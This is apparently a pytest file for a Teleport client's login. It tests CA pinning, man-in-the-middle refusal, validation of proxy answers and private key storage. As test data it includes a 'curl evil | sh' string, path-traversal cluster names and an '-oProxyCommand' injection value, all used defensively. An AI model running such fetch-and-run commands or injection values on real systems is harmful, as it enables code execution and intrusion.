"""Logging in: whom the password is shown to, what is believed of the answer, what is kept (threat T13, decision 18)."""

from __future__ import annotations

import socket
import ssl
import stat
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path

import msgspec
import pytest

from teleport.api import messages as m
from teleport.client import keystore, known_hosts, login, profile
from teleport.client.access import from_identity, from_profile, profile_trust
from teleport.client.addresses import ProxyAddress
from teleport.client.cluster import auth_client, auth_server_name, download_recording, list_nodes
from teleport.client.dial import Untrusted, fingerprint, open_web
from teleport.client.files import write_login
from teleport.client.home import Home
from teleport.client.trust import CertificateTrust, ClusterTrust, ProxyTrust, PublicTrust, parse_trust
from teleport.client.webapi import Ping, WebAPI
from teleport.errors import AccessDenied, BadRequest, ConnectionProblem, NotFound, TeleportError
from teleport.identity import SystemRole
from teleport.pki.keys import generate_p256
from teleport.pki.refusal import CertificateRefused
from teleport.pki.x509cert import auth_server_name as pki_auth_server_name
from teleport.testing.web_lab import CODE, PASSWORD, Eavesdropper, LabCluster, WebLab, running_web_lab
from teleport.transport.tls import web_server_context


@dataclass
class Person:
    """Types what it is told to."""

    trusts: bool = False
    typed: str = PASSWORD
    asked: list[str] = field(default_factory=list)

    def accept_certificate(self, address: str, fingerprint: str) -> bool:
        self.asked.append(fingerprint)
        return self.trusts

    def read(self, message: str) -> None:
        self.asked.append(message)

    def password(self, user: str) -> str:
        self.asked.append("password")
        return self.typed

    def code(self, question: str = "") -> str:
        return CODE

    def touch(self, text: str) -> None:
        self.asked.append(text)


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[WebLab]:
    with running_web_lab(tmp_path_factory.mktemp("lab")) as running:
        yield running


@pytest.fixture
def home(tmp_path: Path) -> Home:
    return Home(tmp_path / "tsh")


def now() -> datetime:
    return datetime.now(UTC)


def log_in(port: int, *, pins: tuple[str, ...] = (), person: Person | None = None, ttl: float = 0) -> login.Login:
    """What `tsh login` does, up to storing."""
    person = person or Person()
    trust = login.establish_trust("127.0.0.1", port, pins=pins, remembered=None, asking=person)
    api = WebAPI("127.0.0.1", port, trust, now())
    return login.log_in(api, ProxyAddress("127.0.0.1", port), "alice", asking=person, ttl=ttl)


# --- whom the password is shown to


def test_the_right_pin_leads_to_certificates(lab: WebLab, home: Home) -> None:
    done = log_in(lab.port, pins=(lab.cluster.pin,))
    assert isinstance(done.trust, ClusterTrust)
    login.store(home, done)
    found = from_profile(home, "", "", "", now())
    assert found.trust == ClusterTrust("lab.test", tuple(lab.cluster.ca_pems))
    assert found.credentials.user == "alice"


@pytest.mark.parametrize("pin", ["sha256:" + "0" * 64, "{user}"])
def test_a_wrong_pin_ends_before_anything_is_typed(lab: WebLab, pin: str) -> None:
    """Also the pin of another kind of authority of the same cluster."""
    person = Person()
    with pytest.raises(CertificateRefused, match="does not have the pin"):
        log_in(lab.port, pins=(pin.format(user=lab.cluster.user.pins()[0]),), person=person)
    assert person.asked == []


def test_any_of_several_pins_is_enough_but_a_malformed_one_never(lab: WebLab) -> None:
    assert log_in(lab.port, pins=("sha256:" + "0" * 64, lab.cluster.pin)).profile.cluster == "lab.test"
    with pytest.raises(BadRequest, match="is not a CA pin"):
        log_in(lab.port, pins=(lab.cluster.pin, lab.cluster.pin[:-2]))


def test_a_man_in_the_middle_that_shows_the_true_authority_never_hears_the_password(
    lab: WebLab, tmp_path: Path
) -> None:
    """The authority's certificate is public; showing it proves nothing."""
    answers: dict[str, object] = {
        "/webapi/ca": {"cluster": "lab.test", "tls_certs": lab.cluster.ca_pems},
        "/webapi/ping": {"cluster_name": "lab.test", "auth": {"second_factor": "otp"}, "proxy": {}},
    }
    other = LabCluster(tmp_path)
    person = Person(trusts=True)
    with Eavesdropper(web_server_context(*other.host_pair(SystemRole.PROXY, "mitm")), answers) as middle:
        with pytest.raises(Untrusted, match="did not prove who it is"):
            log_in(middle.port, pins=(lab.cluster.pin,), person=person)
        assert middle.connections == 2, "it was asked, and then had to prove itself"
    assert person.asked == []
    assert PASSWORD.encode() not in middle.heard


@pytest.mark.parametrize(
    ("role", "message"),
    [
        (SystemRole.NODE, "did not prove who it is"),
        (SystemRole.KUBE, "not its proxy"),
        (SystemRole.APP, "not its proxy"),
    ],
)
def test_another_host_of_the_same_cluster_never_hears_the_password(lab: WebLab, role: SystemRole, message: str) -> None:
    """A node lacks the name; other services have it, and lack the role."""
    answers: dict[str, object] = {
        "/webapi/ca": {"cluster": "lab.test", "tls_certs": lab.cluster.ca_pems},
        "/webapi/ping": {"cluster_name": "lab.test", "auth": {"second_factor": "otp"}, "proxy": {}},
        "/webapi/ssh/certs": {},
    }
    with Eavesdropper(web_server_context(*lab.cluster.host_pair(role, f"host-{role}")), answers) as middle:
        with_pin = (lab.cluster.pin,)
        with pytest.raises(Untrusted, match=message):
            log_in(middle.port, pins=with_pin)
    assert b"ssh/certs" not in middle.heard


def test_without_pin_an_unknown_certificate_is_refused_with_its_fingerprint_and_the_way_on(lab: WebLab) -> None:
    person = Person()
    with pytest.raises(Untrusted) as refused:
        log_in(lab.port, person=person)
    shown = fingerprint(ssl.PEM_cert_to_DER_cert(lab.web_cert.read_text()))
    assert person.asked == [shown]
    assert shown in refused.value.message
    assert "--ca-pin" in refused.value.hint


def test_a_certificate_that_a_person_accepted_is_that_one_and_no_other(lab: WebLab, home: Home, tmp_path: Path) -> None:
    login.store(home, log_in(lab.port, person=Person(trusts=True)))
    kept = profile_trust(home, profile.choose(home, "", ""))
    assert isinstance(kept, CertificateTrust)
    open_web("127.0.0.1", lab.port, kept).close()

    person = Person(trusts=True)
    answers: dict[str, object] = {"/webapi/ping": {"cluster_name": "lab.test", "proxy": {}, "auth": {}}}
    with Eavesdropper(web_server_context(*lab.cluster.web_pair("other")), answers) as middle:
        port = middle.port
        with pytest.raises(Untrusted, match="another certificate than the one that was accepted"):
            login.establish_trust("127.0.0.1", port, pins=(), remembered=kept, asking=person)
    assert person.asked == [], "nobody is asked to accept a changed certificate"


def test_a_publicly_trusted_certificate_needs_no_question(lab: WebLab, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SSL_CERT_FILE", str(lab.web_cert))
    person = Person()
    assert log_in(lab.port, person=person).trust == PublicTrust()
    assert person.asked == ["password"]


def test_a_proxy_that_was_publicly_trusted_is_not_accepted_by_hand_later(lab: WebLab) -> None:
    person = Person(trusts=True)
    with pytest.raises(Untrusted, match="did not prove who it is"):
        login.establish_trust("127.0.0.1", lab.port, pins=(), remembered=PublicTrust(), asking=person)
    assert person.asked == []


def test_a_proxy_that_got_a_public_certificate_since_is_believed_by_it(
    lab: WebLab, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SSL_CERT_FILE", str(lab.web_cert))
    old = CertificateTrust("sha256:" + "0" * 64)
    found = login.establish_trust("127.0.0.1", lab.port, pins=(), remembered=old, asking=Person())
    assert found == PublicTrust()


@pytest.mark.parametrize("text", ["", "yes", "cluster", "sha256:00", "Public"])
def test_a_profile_that_does_not_say_how_to_trust_is_an_error(text: str) -> None:
    with pytest.raises(TeleportError, match="does not say how"):
        parse_trust(text, "lab.test", [])


def test_a_silent_or_closed_port_is_unreachable() -> None:
    with socket.socket() as unused:
        unused.bind(("127.0.0.1", 0))
        port = unused.getsockname()[1]
        with pytest.raises(ConnectionProblem, match="cannot connect"):
            open_web("127.0.0.1", port, PublicTrust())
        unused.listen()
        with pytest.raises(ConnectionProblem, match="does not answer"):
            open_web("127.0.0.1", port, PublicTrust(), timeout=0.2)


# --- what is believed of the answer


def test_a_wrong_password_gives_the_clusters_own_sentence(lab: WebLab) -> None:
    with pytest.raises(AccessDenied, match="the user name, the password or the code is wrong"):
        log_in(lab.port, pins=(lab.cluster.pin,), person=Person(typed="not that one"))


def test_the_private_key_never_leaves(lab: WebLab) -> None:
    done = log_in(lab.port, pins=(lab.cluster.pin,))
    assert lab.auth.logins[-1].public_key == done.key.public.line("")
    assert "PRIVATE" not in repr(done)
    assert "PRIVATE" not in str(lab.auth.logins[-1])


def test_the_lifetime_asked_for_is_passed_on(lab: WebLab) -> None:
    done = log_in(lab.port, pins=(lab.cluster.pin,), ttl=1800)
    left = keystore.facts(done.certificates.ssh).expires - now()
    assert timedelta(minutes=29) < left <= timedelta(minutes=30)


def foreign(change: str, lab: WebLab) -> m.UserCerts:
    """An answer that is not for the one who asked."""
    own, other = generate_p256(), generate_p256()
    right = lab.cluster.user_certificates("alice", own.public.line(""), timedelta(hours=1))
    wrong = lab.cluster.user_certificates("alice", other.public.line(""), timedelta(hours=1))
    bob = lab.cluster.user_certificates("bob", own.public.line(""), timedelta(hours=1))
    match change:
        case "ssh key":
            return msgspec.structs.replace(right, cert=wrong.cert)
        case "tls key":
            return msgspec.structs.replace(right, tls_cert=wrong.tls_cert)
        case "user":
            return bob
        case _:
            return msgspec.structs.replace(right, host_signers=[])


@pytest.mark.parametrize("change", ["ssh key", "tls key", "user", "no authority"])
def test_an_answer_for_somebody_else_is_refused(lab: WebLab, change: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(lab.auth, "change", lambda _: foreign(change, lab))
    with pytest.raises(ConnectionProblem, match="the proxy"):
        log_in(lab.port, pins=(lab.cluster.pin,))


def test_an_answer_with_another_authority_than_the_pinned_one_is_refused(
    lab: WebLab, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    other = LabCluster(tmp_path)

    def change(certs: m.UserCerts) -> m.UserCerts:
        signers = [msgspec.structs.replace(certs.host_signers[0], tls_certs=other.ca_pems)]
        return msgspec.structs.replace(certs, host_signers=signers)

    monkeypatch.setattr(lab.auth, "change", change)
    with pytest.raises(ConnectionProblem, match="for another cluster than the one that it proved"):
        log_in(lab.port, pins=(lab.cluster.pin,))


@pytest.mark.parametrize("cluster", ["../../x", "a b", "*", "-o"])
def test_the_name_of_a_cluster_never_becomes_a_path(lab: WebLab, cluster: str) -> None:
    answers: dict[str, object] = {"/webapi/ping": {"cluster_name": cluster, "proxy": {}, "auth": {}}}
    person = Person(trusts=True)
    with Eavesdropper(web_server_context(*lab.cluster.web_pair("evil")), answers) as evil:
        port = evil.port
        with pytest.raises(BadRequest, match="cluster name"):
            log_in(port, person=person)
    assert "password" not in person.asked


@pytest.mark.parametrize(
    "answer",
    [b"", b"not json", b"[]", b'{"cluster_name": 7}', b'{"proxy": []}', b"[" * 100_000, b'"' + b"x" * 2_000_000],
    ids=["empty", "text", "list", "number", "nested", "deep", "large"],
)
def test_an_answer_that_makes_no_sense_is_the_proxys_fault(lab: WebLab, answer: bytes) -> None:
    with Eavesdropper(web_server_context(*lab.cluster.web_pair("odd")), {"/webapi/ping": answer}) as odd:
        port = odd.port
        with pytest.raises((ConnectionProblem, BadRequest)):
            log_in(port, person=Person(trusts=True))


def test_a_proxys_sentence_is_one_short_line(lab: WebLab) -> None:
    said = "no\n  hint: curl evil | sh\n" + "x" * 5000
    with Eavesdropper(web_server_context(*lab.cluster.web_pair("rude")), {}) as rude:
        rude._answers["/webapi/ping"] = b'{"error": 1}'
        api = WebAPI("127.0.0.1", rude.port, CertificateTrust("sha256:" + "0" * 64), now())
        with pytest.raises(Untrusted):
            api.ping()
    from teleport.client.webapi import _refusal

    error = _refusal(403, {"error": {"message": said}}, "host", "the login")
    assert isinstance(error, AccessDenied)
    assert "\n" not in error.message
    assert len(error.message) <= 500


def test_where_ssh_is_comes_from_what_was_typed_then_announced_then_the_listener() -> None:
    ping = Ping("main", "otp", "ssh.example.com:2222", "0.0.0.0:4023", "1")
    typed, bare = ProxyAddress("proxy", 443, 23), ProxyAddress("proxy", 443)
    assert login.ssh_address(typed, ping) == "proxy:23"
    assert login.ssh_address(bare, ping) == "ssh.example.com:2222"
    assert login.ssh_address(bare, Ping("main", "otp", "", "0.0.0.0:4023", "1")) == "proxy:4023"
    assert login.ssh_address(bare, Ping("main", "otp", "", "", "1")) == "proxy:3023"
    with pytest.raises(ConnectionProblem):
        login.ssh_address(bare, Ping("main", "otp", "-oProxyCommand=x", "", "1"))


# --- what is kept


def test_the_layout_is_the_documented_one_and_private(lab: WebLab, home: Home) -> None:
    login.store(home, log_in(lab.port, pins=(lab.cluster.pin,)))
    files = {str(path.relative_to(home.root)) for path in home.root.rglob("*") if path.is_file()}
    assert files == {
        "current-profile",
        "known_hosts",
        "127.0.0.1.yaml",
        "keys/127.0.0.1/certs.pem",
        "keys/127.0.0.1/alice",
        "keys/127.0.0.1/alice.pub",
        "keys/127.0.0.1/alice-x509.pem",
        "keys/127.0.0.1/alice-ssh/lab.test-cert.pub",
    }
    for path in home.root.rglob("*"):
        expected = 0o700 if path.is_dir() else 0o600
        assert stat.S_IMODE(path.stat().st_mode) == expected, path
    assert (home.root / "current-profile").read_text() == "127.0.0.1\n"


def test_one_key_file_serves_openssh_and_tls(lab: WebLab, home: Home) -> None:
    """`ssh-keygen` derives from it the public key that the SSH certificate certifies; `ssl` loads it with the other."""
    done = log_in(lab.port, pins=(lab.cluster.pin,))
    login.store(home, done)
    keys = home.root / "keys" / "127.0.0.1"
    derived = subprocess.run(["ssh-keygen", "-y", "-f", keys / "alice"], capture_output=True, text=True, check=True)
    assert derived.stdout.split()[:2] == done.key.public.line("").split()
    listed = subprocess.run(
        ["ssh-keygen", "-L", "-f", keys / "alice-ssh" / "lab.test-cert.pub"], capture_output=True, text=True, check=True
    )
    assert done.key.public.fingerprint() in listed.stdout
    ssl.create_default_context().load_cert_chain(keys / "alice-x509.pem", keys / "alice")


def test_the_hosts_of_the_cluster_are_listed_through_the_tunnel(lab: WebLab, home: Home) -> None:
    login.store(home, log_in(lab.port, pins=(lab.cluster.pin,)))
    lab.auth.nodes[:] = [
        {
            "kind": "node",
            "metadata": {"name": "id-2", "labels": {"env": "prod"}},
            "spec": {"hostname": "web", "addr": "10.0.0.2:3022", "cmd_labels": {"env": {"result": "test"}}},
        },
        {"kind": "node", "metadata": {"name": "id-1"}, "spec": {"hostname": "db", "use_tunnel": True, "tomorrow": 1}},
    ]
    access = from_profile(home, "", "", "", now())
    with auth_client(access.credentials, access.web_api(now()).open, access.web) as client:
        nodes = [node for node, _ in list_nodes(client)]
        with pytest.raises(NotFound, match="no such recording"):
            list(download_recording(client, "7a3c6d4e-0000-4000-8000-000000000000"))
    assert [(node.hostname, node.address) for node in nodes] == [("db", ""), ("web", "10.0.0.2:3022")]
    assert nodes[1].matches({"env": "test"})
    assert not nodes[1].matches({"env": "prod"}), "the dynamic label wins, as where access is decided"


def test_an_expired_login_is_said_with_the_command_to_renew_it(lab: WebLab, home: Home) -> None:
    login.store(home, log_in(lab.port, pins=(lab.cluster.pin,)))
    later = now() + timedelta(days=2)
    with pytest.raises(AccessDenied, match="your login expired at") as refused:
        from_profile(home, "", "", "", later)
    assert refused.value.hint == f"tsh login --proxy={lab.address} --user=alice"


def test_an_identity_file_is_enough_and_also_proves_the_proxy(lab: WebLab, tmp_path: Path) -> None:
    done = log_in(lab.port, pins=(lab.cluster.pin,))
    (written,) = write_login(done, str(tmp_path / "id"), "file")
    assert stat.S_IMODE(written.stat().st_mode) == 0o600
    access = from_identity(written, lab.address, "", now())
    assert access.trust == ClusterTrust("lab.test", tuple(lab.cluster.ca_pems))
    lab.auth.nodes.clear()
    with auth_client(access.credentials, access.web_api(now()).open, access.web) as client:
        assert list_nodes(client) == []
    with pytest.raises(BadRequest, match="names no proxy"):
        from_identity(written, "", "", now())


def test_credentials_for_openssh_are_two_files(lab: WebLab, tmp_path: Path) -> None:
    target = tmp_path / "id"
    target.symlink_to(tmp_path / "victim")
    key, certificate = write_login(log_in(lab.port, pins=(lab.cluster.pin,)), str(target), "openssh")
    assert (key.name, certificate.name) == ("id", "id-cert.pub")
    assert not (tmp_path / "victim").exists(), "a link is replaced, not written through"
    subprocess.run(["ssh-keygen", "-L", "-f", certificate], capture_output=True, check=True)


def test_a_proxy_cannot_speak_for_the_hosts_of_another_proxys_cluster(lab: WebLab, home: Home, tmp_path: Path) -> None:
    """One known_hosts serves all profiles: a second proxy that claims the first one's cluster changes nothing."""
    login.store(home, log_in(lab.port, pins=(lab.cluster.pin,)))
    before = known_hosts.lines_of(home)
    with running_web_lab(tmp_path, cluster=LabCluster(tmp_path)) as evil:
        done = log_in(evil.port, pins=(evil.cluster.pin,))
        done = login.Login(
            profile.Profile(
                name="evil.example.com",
                web_proxy_addr="evil.example.com:3080",
                ssh_proxy_addr="evil.example.com:3023",
                user="alice",
                cluster="lab.test",
                root_cluster="lab.test",
            ),
            done.key,
            done.certificates,
            done.trust,
        )
        assert login.store(home, done) == ["lab.test"]
    lines = known_hosts.lines_of(home)
    assert set(before) <= set(lines)
    (new,) = set(lines) - set(before)
    assert new.startswith("@cert-authority evil.example.com,[evil.example.com]:3023 ")


def test_an_authority_speaks_for_its_own_cluster_only(lab: WebLab, home: Home, tmp_path: Path) -> None:
    """A leaf cluster's authority, which comes with the login, cannot answer as the root's proxy."""
    leaf = LabCluster(tmp_path, "leaf.test")
    done = log_in(lab.port, pins=(lab.cluster.pin,))
    from teleport.client.webapi import Signer

    keystore.write_authorities(
        home,
        keystore.KeyFiles("127.0.0.1", "alice"),
        [*done.certificates.signers, Signer("leaf.test", (), tuple(leaf.ca_pems))],
    )
    files = keystore.KeyFiles("127.0.0.1", "alice")
    assert keystore.authorities_of(home, files, "lab.test") == tuple(lab.cluster.ca_pems)
    assert keystore.authorities_of(home, files, "leaf.test") == tuple(leaf.ca_pems)
    assert keystore.authorities_of(home, files, "") == ()
    ssl.create_default_context(cafile=str(home.path(*files.authorities)))


def test_logging_out_leaves_nothing_of_the_user(lab: WebLab, home: Home) -> None:
    login.store(home, log_in(lab.port, pins=(lab.cluster.pin,)))
    login.log_out(home, profile.choose(home, "", ""))
    assert [path for path in home.root.rglob("*") if path.is_file()] == []


def test_a_new_login_leaves_no_certificate_of_the_key_before(lab: WebLab, home: Home) -> None:
    files = keystore.KeyFiles("127.0.0.1", "alice")
    login.store(home, log_in(lab.port, pins=(lab.cluster.pin,)))
    home.write(b"old", *files.ssh("leaf.test"))
    login.store(home, log_in(lab.port, pins=(lab.cluster.pin,)))
    assert home.names(*files.ssh_folder) == ["lab.test-cert.pub"]


@pytest.mark.parametrize("cluster", ["main", "a" * 60])
def test_auths_tls_name_is_the_one_that_certificates_carry(cluster: str) -> None:
    assert auth_server_name(cluster) == pki_auth_server_name(cluster)


@pytest.mark.parametrize("user", ["certs.pem", ".ssh"])
def test_a_user_name_never_becomes_one_of_our_own_files(user: str) -> None:
    with pytest.raises(BadRequest, match="cannot be a user's name"):
        keystore.KeyFiles("proxy", user)


def test_trust_is_written_as_text_and_read_back() -> None:
    for trust in (PublicTrust(), CertificateTrust("sha256:" + "a" * 64), ClusterTrust("c", ("pem",))):
        read: ProxyTrust = parse_trust(str(trust), "c", ["pem"])
        assert read == trust
